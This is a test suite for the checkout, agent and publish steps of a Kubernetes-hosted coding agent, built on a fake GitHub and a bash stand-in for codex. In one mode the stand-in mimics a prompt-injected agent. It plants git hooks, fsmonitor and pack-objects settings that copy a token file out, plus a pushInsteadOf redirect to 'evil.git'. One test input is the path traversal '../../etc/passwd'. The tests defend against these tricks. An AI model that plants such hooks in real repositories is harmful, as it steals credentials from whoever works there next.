import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { projectRoot } from '../adapters/paths.js';
import { runCli } from './support/cli.js';
import { startFakeGithub, type FakeGithub } from './support/fake-github.js';

// A local bare repository, a stand-in `codex` on PATH and a fake GitHub API: the agent's pod, end to end.
let root: string;
let github: FakeGithub;
const token = `ghp_${'x'.repeat(36)}`;
const body = 'Please add a SOLUTION.md that says hello.';
const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t.invalid', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t.invalid' } });

before(async () => {
  root = mkdtempSync(join(tmpdir(), 'codexk8s-agent-'));
  git(root, 'init', '--quiet', '--bare', '--initial-branch=main', 'origin.git');
  git(root, 'clone', '--quiet', join(root, 'origin.git'), 'seed');
  writeFileSync(join(root, 'seed', 'README.md'), '# hello\n');
  git(join(root, 'seed'), 'add', '-A');
  git(join(root, 'seed'), 'commit', '--quiet', '-m', 'first');
  git(join(root, 'seed'), 'push', '--quiet', 'origin', 'HEAD:main');
  mkdirSync(join(root, 'bin'));
  // The stand-in: writes its answer; with CODEX_STANDIN_HANG it commits a first part and keeps working.
  // Like codex 0.171.0 (the image's): an option it does not know is a usage error (exit 2), and
  // with stdin left open it waits for more prompt.
  writeFileSync(join(root, 'bin', 'codex'), `#!/bin/bash
[ "$1" = exec ] || exit 2
shift
while [ "$#" -gt 0 ]; do
  case "$1" in
    --dangerously-bypass-approvals-and-sandbox|--ephemeral|--skip-git-repo-check|--json) shift ;;
    --sandbox|-s|--color|--model|-m|-c|--config) shift 2 ;;
    --output-last-message|-o) summary="$2"; shift 2 ;;
    --) shift; break ;;
    -*) echo "error: unexpected argument '$1' found" >&2; exit 2 ;;
    *) break ;;
  esac
done
[ "$#" -eq 1 ] || { echo "one prompt expected" >&2; exit 2; }
if [ -n "$CODEX_STANDIN_PROMPT" ]; then printf '%s' "$1" > "$CODEX_STANDIN_PROMPT"; fi
if [ -n "$summary" ]; then printf '%s\n' "\${CODEX_STANDIN_SUMMARY:-I added SOLUTION.md: the issue asked for it.}" > "$summary"; fi
if read -r -t 2 _; [ "$?" -gt 128 ]; then echo "stdin is still open" >&2; exit 4; fi
if [ -n "$CODEX_STANDIN_NOOP" ]; then exit 0; fi
echo "hello from the agent" >> SOLUTION.md
if [ -n "$CODEX_STANDIN_HOSTILE" ]; then
  # A prompt-injected agent: git configuration and hooks that would run in whoever works in this repository next.
  printf '#!/bin/sh\\ncat "$CODEX_STANDIN_TOKEN" > "$CODEX_STANDIN_LEAKS/pre-push"\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push
  git config core.fsmonitor "cat $CODEX_STANDIN_TOKEN > $CODEX_STANDIN_LEAKS/fsmonitor; false"
  git config uploadpack.packObjectsHook "cat $CODEX_STANDIN_TOKEN > $CODEX_STANDIN_LEAKS/pack-objects; false"
  git config url."$CODEX_STANDIN_LEAKS/evil.git".pushInsteadOf "$CODEXK8S_CLONE_URL"
  printf '[core]\\n\\thooksPath = %s\\n' "$PWD/.git/hooks" > "$HOME/.gitconfig"
fi
if [ -n "$CODEX_STANDIN_FAIL" ]; then
  # As the model would: plain git, with no configuration of its own (the step gives the identity).
  git add -A && GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 git commit -q -m "before the failure"
  echo "codex: the model gave up" >&2
  exit 3
fi
if [ -n "$CODEX_STANDIN_HANG" ]; then
  git add -A && GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 git commit -q -m "first part"
  echo $$ > "$CODEX_STANDIN_HANG"
  exec sleep 60
fi
`);
  chmodSync(join(root, 'bin', 'codex'), 0o755);
  writeFileSync(join(root, 'token'), token);
  github = await startFakeGithub();
  github.addRepository({ id: 1, owner: 'octo', name: 'hello' });
  github.addIssue('octo/hello', { number: 7, title: 'Say hello', body });
});
after(async () => {
  await github.close();
  rmSync(root, { recursive: true, force: true });
});

const settings = (workspace: string, extra: Record<string, string> = {}) => ({
  PATH: `${join(root, 'bin')}:${process.env.PATH}`,
  CODEXK8S_WORKSPACE: workspace,
  CODEXK8S_REPOSITORY: 'octo/hello',
  CODEXK8S_CLONE_URL: join(root, 'origin.git'),
  CODEXK8S_ISSUE_NUMBER: '7',
  CODEXK8S_ISSUE_BODY_SHA256: createHash('sha256').update(body).digest('hex'),
  CODEXK8S_GITHUB_API_URL: github.url,
  CODEXK8S_TOKEN_FILE: join(root, 'token'),
  CODEXK8S_TERMINATION_LOG: join(workspace, 'termination-log'),
  ...extra,
});

describe('codex-k8s agent-run', () => {
  it('checkout, agent, publish: a branch with the agent\'s commit and one pull request, updated and never duplicated', async () => {
    const workspace = join(root, 'ws1');
    mkdirSync(workspace);
    const checkout = await runCli(['agent-run', 'checkout'], settings(workspace));
    assert.equal(checkout.code, 0, checkout.stderr);
    assert.match(readFileSync(join(workspace, 'issue.md'), 'utf8'), /Say hello[\s\S]*SOLUTION\.md/);
    assert.equal(git(join(workspace, 'repo'), 'branch', '--show-current').trim(), 'codex/issue-7');
    assert.ok(!readFileSync(join(workspace, 'repo', '.git', 'config'), 'utf8').includes(token), 'no token in the shared workspace');
    const agent = await runCli(['agent-run', 'agent'], settings(workspace, { CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }));
    assert.equal(agent.code, 0, agent.stderr);
    const published = await runCli(['agent-run', 'publish'], settings(workspace));
    assert.equal(published.code, 0, published.stderr);
    const result = JSON.parse(published.stdout);
    assert.deepEqual([result.branch, result.pullRequest, result.checkpoint], ['codex/issue-7', 100, false]);
    assert.deepEqual(JSON.parse(readFileSync(join(workspace, 'termination-log'), 'utf8')), result, 'the pod\'s termination message');
    assert.equal(git(join(root, 'origin.git'), 'show', 'codex/issue-7:SOLUTION.md'), 'hello from the agent\n');
    assert.equal(github.pulls.find((p) => p.head === 'codex/issue-7')!.body, 'Resolves #7.\n\nI added SOLUTION.md: the issue asked for it.', 'what the agent said last, in the pull request');
    const again = await runCli(['agent-run', 'publish'], settings(workspace));
    assert.equal(JSON.parse(again.stdout).pullRequest, 100);
    assert.equal(github.pulls.length, 1, 'the open pull request is updated, never duplicated');
  });

  /** The pod's three steps in a fresh workspace, as one run; each must succeed. */
  const wholeRun = async (name: string, extra: Record<string, string>) => {
    const workspace = join(root, name);
    mkdirSync(workspace);
    let result: Record<string, unknown> = {};
    for (const step of ['checkout', 'agent', 'publish']) {
      const done = await runCli(['agent-run', step], settings(workspace, { ...extra, ...(step === 'agent' ? { CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') } : {}) }));
      assert.equal(done.code, 0, `${name} ${step}: ${done.stderr}`);
      if (step === 'publish') result = JSON.parse(done.stdout);
    }
    return { workspace, result };
  };

  /** Someone else's commit of one file on `branch` of the origin, from a clone of their own; its commit id. */
  const pushedByAPerson = (clone: string, branch: string, file: string, content: string, message: string) => {
    const dir = join(root, clone);
    git(root, 'clone', '--quiet', join(root, 'origin.git'), dir);
    git(dir, 'checkout', '--quiet', '-b', branch);
    writeFileSync(join(dir, file), content);
    git(dir, 'add', '-A');
    git(dir, 'commit', '--quiet', '-m', message);
    git(dir, 'push', '--quiet', 'origin', `HEAD:${branch}`);
    return git(dir, 'rev-parse', 'HEAD').trim();
  };

  it('what the agent says in the pull request holds no e-mail or token it may have written there', async () => {
    github.addIssue('octo/hello', { number: 14, title: 'Leak', body });
    await wholeRun('ws-summary', { CODEXK8S_ISSUE_NUMBER: '14', CODEX_STANDIN_SUMMARY: `Done. Reach me at someone@example.com; the key is ${token}.` });
    assert.equal(github.pulls.find((p) => p.head === 'codex/issue-14')!.body, 'Resolves #14.\n\nDone. Reach me at [redacted]; the key is [redacted].');
  });

  it('an issue labelled again: the run goes on from the branch the last run pushed, and its pull request is updated', async () => {
    github.addIssue('octo/hello', { number: 8, title: 'Say hello twice', body });
    const issue8 = { CODEXK8S_ISSUE_NUMBER: '8' };
    const first = await wholeRun('ws-again-1', issue8);
    const second = await wholeRun('ws-again-2', issue8);
    const origin = join(root, 'origin.git');
    assert.equal(git(origin, 'show', 'codex/issue-8:SOLUTION.md'), 'hello from the agent\nhello from the agent\n', 'the second run built on the first');
    assert.equal(git(origin, 'rev-list', '--count', 'main..codex/issue-8').trim(), '2');
    assert.equal(second.result.pullRequest, first.result.pullRequest);
    assert.equal(github.pulls.filter((p) => p.head === 'codex/issue-8').length, 1);
  });

  it('a revise works on the pull request\'s own branch and pushes there, leaving its title and body as they were', async () => {
    const origin = join(root, 'origin.git');
    pushedByAPerson('human', 'feature/greeting', 'GREETING.md', 'hi\n', 'a greeting');
    const prBody = 'Adds a greeting. Please also add a SOLUTION.md.';
    github.addPull('octo/hello', { number: 9, title: 'Add a greeting', body: prBody, head: 'feature/greeting' });
    const pullsBefore = github.pulls.length;
    const prompt = join(root, 'revise-prompt');
    const { result } = await wholeRun('ws-revise', { CODEXK8S_ISSUE_NUMBER: '9', CODEXK8S_SUBJECT_KIND: 'pull_request', CODEXK8S_ISSUE_BODY_SHA256: createHash('sha256').update(prBody).digest('hex'), CODEX_STANDIN_PROMPT: prompt });
    const instructions = readFileSync(join(projectRoot, 'deploy', 'agent', 'instructions', 'default.revise.md'), 'utf8').trim();
    assert.ok(readFileSync(prompt, 'utf8').startsWith(`${instructions}\n\n# Add a greeting\n\n${prBody}`), 'the revise instructions, then the pull request\'s text');
    assert.deepEqual([result.branch, result.pullRequest, result.checkpoint], ['feature/greeting', 9, false]);
    assert.equal(git(origin, 'show', 'feature/greeting:GREETING.md'), 'hi\n', 'the human\'s commit is kept');
    assert.equal(git(origin, 'show', 'feature/greeting:SOLUTION.md'), 'hello from the agent\n');
    assert.equal(github.pulls.length, pullsBefore, 'no new pull request');
    const pull = github.pulls.find((p) => p.number === 9)!;
    assert.deepEqual([pull.title, pull.body], ['Add a greeting', prBody]);
    assert.deepEqual(github.comments.filter((c) => c.on === 'octo/hello#9').map((c) => c.body), ['I added SOLUTION.md: the issue asked for it.'], 'what the agent said, as a comment');
  });

  it('a branch someone pushed to while the agent worked is never overwritten: publish fails and says why', async () => {
    github.addIssue('octo/hello', { number: 12, title: 'Race', body });
    const workspace = join(root, 'ws-moved');
    mkdirSync(workspace);
    const env = (extra: Record<string, string> = {}) => settings(workspace, { CODEXK8S_ISSUE_NUMBER: '12', ...extra });
    assert.equal((await runCli(['agent-run', 'checkout'], env())).code, 0);
    assert.equal((await runCli(['agent-run', 'agent'], env({ CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }))).code, 0);
    const origin = join(root, 'origin.git');
    const theirs = pushedByAPerson('person', 'codex/issue-12', 'THEIRS.md', 'mine\n', 'theirs');
    const published = await runCli(['agent-run', 'publish'], env());
    assert.notEqual(published.code, 0);
    assert.match(published.stderr, /codex\/issue-12 moved on GitHub while the agent worked; nothing was pushed/);
    assert.ok(!published.stderr.includes(token), 'no token in the message');
    assert.equal(git(origin, 'rev-parse', 'codex/issue-12').trim(), theirs, 'their commit stands');
  });

  it('a revise stopped mid-run pushes its checkpoint to the pull request\'s branch and says so in a comment, title and body untouched', async () => {
    const origin = join(root, 'origin.git');
    pushedByAPerson('human-2', 'feature/stopped', 'PLAN.md', 'plan\n', 'a plan');
    github.addPull('octo/hello', { number: 13, title: 'A plan', body: 'Carry the plan out.', head: 'feature/stopped' });
    const workspace = join(root, 'ws-revise-stopped');
    mkdirSync(workspace);
    const codexPid = join(root, 'codex-revise.pid');
    const env = settings(workspace, { CODEXK8S_ISSUE_NUMBER: '13', CODEXK8S_SUBJECT_KIND: 'pull_request', CODEXK8S_ISSUE_BODY_SHA256: createHash('sha256').update('Carry the plan out.').digest('hex'), CODEX_STANDIN_HANG: codexPid });
    assert.equal((await runCli(['agent-run', 'checkout'], env)).code, 0);
    const cli = join(projectRoot, 'bin', 'codex-k8s.js');
    const agent = spawn(process.execPath, [cli, 'agent-run', 'agent'], { env: { ...process.env, ...env, CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }, stdio: 'ignore' });
    try {
      for (let i = 0; i < 200 && !existsSync(codexPid); i++) await new Promise((r) => setTimeout(r, 50));
      const publish = spawn(process.execPath, [cli, 'agent-run', 'publish'], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      let err = '';
      publish.stdout.on('data', (d) => (out += d));
      publish.stderr.on('data', (d) => (err += d));
      for (let i = 0; i < 400 && !err.includes('publish waits for the agent'); i++) await new Promise((r) => setTimeout(r, 50));
      publish.kill('SIGTERM');
      await new Promise((resolve) => publish.once('exit', resolve));
      const result = JSON.parse(out);
      assert.deepEqual([result.branch, result.pullRequest, result.checkpoint], ['feature/stopped', 13, true]);
      assert.equal(git(origin, 'log', '-1', '--format=%s', 'feature/stopped').trim(), 'first part');
      assert.equal(git(origin, 'show', 'feature/stopped:PLAN.md'), 'plan\n');
      const said = github.comments.filter((c) => c.on === 'octo/hello#13');
      assert.equal(said.length, 1);
      assert.match(said[0]!.body, new RegExp(`^A checkpoint: the run was stopped .* ${result.commit.slice(0, 12)} is what it had committed\\.\n\nI added SOLUTION\\.md`));
      const pull = github.pulls.find((p) => p.number === 13)!;
      assert.deepEqual([pull.title, pull.body], ['A plan', 'Carry the plan out.']);
    } finally {
      agent.kill('SIGTERM');
    }
  });

  it('a revise of a pull request from a fork fails at checkout with the reason', async () => {
    github.addPull('octo/hello', { number: 11, title: 'From a fork', body: 'x', head: 'patch-1', headRepositoryId: 999 });
    const workspace = join(root, 'ws-fork');
    mkdirSync(workspace);
    const checkout = await runCli(['agent-run', 'checkout'], settings(workspace, { CODEXK8S_ISSUE_NUMBER: '11', CODEXK8S_SUBJECT_KIND: 'pull_request', CODEXK8S_ISSUE_BODY_SHA256: createHash('sha256').update('x').digest('hex') }));
    assert.notEqual(checkout.code, 0);
    assert.match(checkout.stderr, /pull request #11 comes from a fork/);
    assert.ok(!existsSync(join(workspace, 'issue.md')), 'the agent gets nothing to work on');
  });

  it('the prompt: the agent\'s instructions, then the issue\'s text, then the learning block when learning mode is on', async () => {
    const workspace = join(root, 'ws-prompt');
    mkdirSync(workspace);
    assert.equal((await runCli(['agent-run', 'checkout'], settings(workspace))).code, 0);
    const prompt = join(root, 'prompt');
    const agentOnce = async (extra: Record<string, string>) => {
      rmSync(prompt, { force: true });
      const done = await runCli(['agent-run', 'agent'], settings(workspace, { CODEXK8S_TOKEN_FILE: join(root, 'no-such-file'), CODEX_STANDIN_PROMPT: prompt, ...extra }));
      return { ...done, prompt: existsSync(prompt) ? readFileSync(prompt, 'utf8') : null };
    };
    const instructions = readFileSync(join(projectRoot, 'deploy', 'agent', 'instructions', 'default.run.md'), 'utf8').trim();
    const plain = await agentOnce({});
    assert.equal(plain.code, 0, plain.stderr);
    assert.equal(plain.prompt, `${instructions}\n\n# Say hello\n\n${body}\n`);
    const learning = await agentOnce({ CODEXK8S_LEARNING_MODE: 'true' });
    assert.match(learning.prompt!, /^[\s\S]+# Say hello[\s\S]+\n\nLearning mode is on: for each decision, explain why this place, what it gives, which alternatives there were and why they are worse here\.$/);
    // An agent of the trigger map with instructions of its own (an image built FROM the agent image adds them).
    const own = join(root, 'instructions');
    mkdirSync(own);
    writeFileSync(join(own, 'qa.run.md'), 'You are the QA agent: write tests only.\n');
    writeFileSync(join(own, 'default.run.md'), 'the default\n');
    const qa = await agentOnce({ CODEXK8S_AGENT: 'qa', CODEXK8S_AGENT_INSTRUCTIONS: own });
    assert.equal(qa.code, 0, qa.stderr);
    assert.ok(qa.prompt!.startsWith('You are the QA agent: write tests only.\n\n# Say hello'));
    const other = await agentOnce({ CODEXK8S_AGENT: 'docs', CODEXK8S_AGENT_INSTRUCTIONS: own });
    assert.ok(other.prompt!.startsWith('the default\n\n# Say hello'), 'an agent without its own file gets the default');
    const escape = await agentOnce({ CODEXK8S_AGENT: '../../etc/passwd' });
    assert.notEqual(escape.code, 0);
    assert.match(escape.stderr, /CODEXK8S_AGENT must be an agent name/);
    const none = await agentOnce({ CODEXK8S_AGENT_INSTRUCTIONS: join(root, 'no-such-dir') });
    assert.notEqual(none.code, 0);
    assert.match(none.stderr, /no instructions for agent dev/);
    assert.equal(JSON.parse(readFileSync(join(workspace, 'agent.done'), 'utf8')).ok, false, 'publish learns the agent failed');
  });

  it('a repository or an issue checkout cannot read fails with a reason of its own, never git\'s command line', async () => {
    const workspace = join(root, 'ws-unreadable');
    mkdirSync(workspace);
    const clone = await runCli(['agent-run', 'checkout'], settings(workspace, { CODEXK8S_CLONE_URL: 'https://127.0.0.1:1/octo/hello.git' }));
    assert.equal(clone.code, 1);
    assert.match(clone.stderr, /cloning octo\/hello failed \(does it exist, and may the repository's token read it\?\)/);
    assert.ok(!clone.stderr.includes(token) && !clone.stderr.includes('x-access-token'), clone.stderr);
    assert.deepEqual(JSON.parse(readFileSync(join(workspace, 'termination-log'), 'utf8')), { error: 'cloning octo/hello failed (does it exist, and may the repository\'s token read it?)' });
    const other = join(root, 'ws-no-issue');
    mkdirSync(other);
    const issue = await runCli(['agent-run', 'checkout'], settings(other, { CODEXK8S_ISSUE_NUMBER: '4040' }));
    assert.equal(issue.code, 1);
    assert.match(issue.stderr, /reading #4040 of octo\/hello on GitHub failed \(404\)/);
  });

  it('an issue edited after it was labelled never reaches the agent', async () => {
    const workspace = join(root, 'ws2');
    mkdirSync(workspace);
    const result = await runCli(['agent-run', 'checkout'], settings(workspace, { CODEXK8S_ISSUE_BODY_SHA256: 'f'.repeat(64) }));
    assert.equal(result.code, 1);
    assert.match(result.stderr, /edited after it was labelled/);
    assert.ok(!existsSync(join(workspace, 'issue.md')));
    assert.deepEqual(JSON.parse(readFileSync(join(workspace, 'termination-log'), 'utf8')), { error: 'the issue was edited after it was labelled; label it again to run on the new text' }, 'the reason, for the run');
  });

  it('stopped mid-run (SIGTERM: a cancel, the deadline), publish pushes what the agent committed as a checkpoint', async () => {
    const workspace = join(root, 'ws3');
    mkdirSync(workspace);
    const codexPid = join(root, 'codex.pid');
    const env = { ...process.env, ...settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-checkpoint', CODEX_STANDIN_HANG: codexPid }) };
    assert.equal((await runCli(['agent-run', 'checkout'], settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-checkpoint' }))).code, 0);
    const cli = join(projectRoot, 'bin', 'codex-k8s.js');
    const agent = spawn(process.execPath, [cli, 'agent-run', 'agent'], { env, stdio: 'ignore', detached: true });
    const publish = spawn(process.execPath, [cli, 'agent-run', 'publish'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    publish.stdout.on('data', (d) => (out += d));
    let err = '';
    publish.stderr.on('data', (d) => (err += d));
    try {
      for (let i = 0; i < 200 && !git(join(workspace, 'repo'), 'log', '--oneline').includes('first part'); i++) await new Promise((r) => setTimeout(r, 50));
      for (let i = 0; i < 400 && !err.includes('publish waits for the agent'); i++) await new Promise((r) => setTimeout(r, 50));
      publish.kill('SIGTERM');
      await new Promise((resolve) => publish.once('exit', resolve));
      assert.ok(out, `publish said nothing: ${err}`);
      const result = JSON.parse(out);
      assert.deepEqual([result.checkpoint, result.branch], [true, 'codex/issue-7-checkpoint']);
      assert.equal(git(join(root, 'origin.git'), 'log', '-1', '--format=%s', 'codex/issue-7-checkpoint').trim(), 'first part');
      assert.match(github.pulls.find((p) => p.head === 'codex/issue-7-checkpoint')!.title, /^\[checkpoint\]/);
      // The kubelet stops every container: the agent step stops its codex with it, never leaves it working on.
      const codex = Number(readFileSync(codexPid, 'utf8'));
      agent.kill('SIGTERM');
      const alive = () => {
        try {
          process.kill(codex, 0);
          return true;
        } catch {
          return false;
        }
      };
      for (let i = 0; i < 60 && alive(); i++) await new Promise((r) => setTimeout(r, 50));
      assert.equal(alive(), false, 'codex still running after its step was stopped');
    } finally {
      try {
        process.kill(-agent.pid!, 'SIGKILL');
      } catch {
        // gone already
      }
    }
  });
  it('publish runs none of the git configuration, hooks or HOME files the agent left, as another user than the agent', async () => {
    const workspace = join(root, 'ws4');
    const leaks = join(root, 'leaks');
    const home = join(root, 'shared-home');
    mkdirSync(workspace);
    mkdirSync(leaks);
    mkdirSync(home);
    git(leaks, 'init', '--quiet', '--bare', 'evil.git');
    const env = (extra: Record<string, string> = {}) =>
      settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-hostile', HOME: home, CODEX_STANDIN_HOSTILE: '1', CODEX_STANDIN_LEAKS: leaks, CODEX_STANDIN_TOKEN: join(root, 'token'), ...extra });
    assert.equal((await runCli(['agent-run', 'checkout'], env())).code, 0);
    const agent = await runCli(['agent-run', 'agent'], env({ CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }));
    assert.equal(agent.code, 0, agent.stderr);
    assert.ok(existsSync(join(home, '.gitconfig')) && existsSync(join(workspace, 'repo', '.git', 'hooks', 'pre-push')), 'the stand-in planted its traps');
    // What the traps did in the agent's own git calls is the agent's business (its container has no token).
    for (const name of readdirSync(leaks)) if (name !== 'evil.git') rmSync(join(leaks, name));
    // In the pod the agent's files belong to the agent's user, not to publish's: git calls that "dubious ownership".
    if (process.getuid?.() === 0) execFileSync('chown', ['-R', '4242:4242', join(workspace, 'repo')]);
    const published = await runCli(['agent-run', 'publish'], env());
    assert.equal(published.code, 0, published.stderr);
    assert.equal(JSON.parse(published.stdout).branch, 'codex/issue-7-hostile');
    assert.equal(git(join(root, 'origin.git'), 'show', 'codex/issue-7-hostile:SOLUTION.md'), 'hello from the agent\n', 'pushed where it belongs');
    assert.deepEqual(readdirSync(leaks), ['evil.git'], 'no hook or configuration of the agent ran');
    assert.equal(git(join(leaks, 'evil.git'), 'for-each-ref').trim(), '', 'nothing was pushed where the agent pointed');
  });

  it('an agent that fails: publish pushes what it committed as a checkpoint and fails too, at once', async () => {
    const workspace = join(root, 'ws5');
    mkdirSync(workspace);
    const env = (extra: Record<string, string> = {}) => settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-failed', CODEX_STANDIN_FAIL: '1', ...extra });
    assert.equal((await runCli(['agent-run', 'checkout'], env())).code, 0);
    const agent = await runCli(['agent-run', 'agent'], env({ CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }));
    assert.notEqual(agent.code, 0);
    assert.match(agent.stderr, /codex exited with 3/);
    assert.deepEqual(JSON.parse(readFileSync(join(workspace, 'termination-log'), 'utf8')), { error: 'codex exited with 3' }, 'the agent container\'s reason');
    const cli = join(projectRoot, 'bin', 'codex-k8s.js');
    const publish = spawn(process.execPath, [cli, 'agent-run', 'publish'], { env: { ...process.env, ...env() }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    publish.stdout.on('data', (d) => (out += d));
    publish.stderr.on('data', (d) => (err += d));
    const code = await Promise.race([new Promise((resolve) => publish.once('exit', resolve)), new Promise((resolve) => setTimeout(resolve, 20_000, 'still waiting'))]);
    publish.kill('SIGKILL');
    assert.equal(code, 1, `publish: ${err}`);
    assert.match(err, /the agent failed/);
    assert.deepEqual(JSON.parse(out).checkpoint, true);
    assert.deepEqual(JSON.parse(readFileSync(join(workspace, 'termination-log'), 'utf8')), JSON.parse(out), 'publish\'s message is its result, not the error after it');
    assert.equal(git(join(root, 'origin.git'), 'log', '-1', '--format=%s', 'codex/issue-7-failed').trim(), 'before the failure');
  });

  it('an agent that changed nothing: no branch is pushed and no pull request opened', async () => {
    const workspace = join(root, 'ws7');
    mkdirSync(workspace);
    const env = settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-noop', CODEX_STANDIN_NOOP: '1' });
    assert.equal((await runCli(['agent-run', 'checkout'], env)).code, 0);
    assert.equal((await runCli(['agent-run', 'agent'], { ...env, CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') })).code, 0);
    const published = await runCli(['agent-run', 'publish'], env);
    assert.equal(published.code, 0, published.stderr);
    assert.equal(JSON.parse(published.stdout).pullRequest, null);
    assert.equal(git(join(root, 'origin.git'), 'branch', '--list', 'codex/issue-7-noop').trim(), '');
    assert.ok(!github.pulls.some((p) => p.head === 'codex/issue-7-noop'));
  });

  it('checkout leaves the token nowhere in the workspace', async () => {
    const workspace = join(root, 'ws6');
    mkdirSync(workspace);
    // An https clone URL, so the token is in the URL git clones from (as on GitHub); git's own
    // URL rewriting (from the environment) maps it, credentials and all, onto the local repository.
    const cloneUrl = 'https://github.test/octo/hello.git';
    const local = join(root, 'https', `x-access-token:${token}@github.test`, 'octo');
    mkdirSync(local, { recursive: true });
    symlinkSync(join(root, 'origin.git'), join(local, 'hello.git'));
    const env = settings(workspace, { CODEXK8S_CLONE_URL: cloneUrl, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${join(root, 'https')}/.insteadOf`, GIT_CONFIG_VALUE_0: 'https://' });
    const checkout = await runCli(['agent-run', 'checkout'], env);
    assert.equal(checkout.code, 0, checkout.stderr);
    assert.equal(git(join(workspace, 'repo'), 'remote', 'get-url', 'origin').trim(), cloneUrl);
    const grep = spawnSync('grep', ['-rl', '--', token, workspace], { encoding: 'utf8' });
    assert.deepEqual([grep.status, grep.stdout], [1, ''], 'grep found no file holding the token');
  });
});
